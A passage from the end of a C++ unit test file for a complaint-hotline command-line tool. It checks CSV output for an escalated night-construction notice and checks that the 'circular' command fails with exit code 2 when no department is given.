            "kind,ticket,source_id,title,item,level_or_color,time,state\n"
            "notice,tickets/1,GD-1001,夜间施工,tickets/1/notices/1,URGING,"
            "2021-03-02 24:00,ESCALATED\n");
  CliRun no_department = cli({"circular", "--month", "2021-03"}, bureau);
  EXPECT_EQ(no_department.exit_code, 2) << no_department.err;
}

}  // namespace
}  // namespace hotline
